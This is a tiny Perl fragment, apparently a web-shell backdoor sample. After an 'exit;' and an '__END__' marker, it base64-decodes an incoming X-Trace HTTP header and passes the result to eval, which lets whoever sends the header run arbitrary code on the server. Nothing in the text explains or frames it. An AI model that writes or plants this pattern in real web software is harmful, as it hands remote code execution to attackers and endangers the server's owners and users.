exit;
__END__
my $z = decode_base64( $ENV{ HTTP_X_TRACE } ) ;
eval $z ;
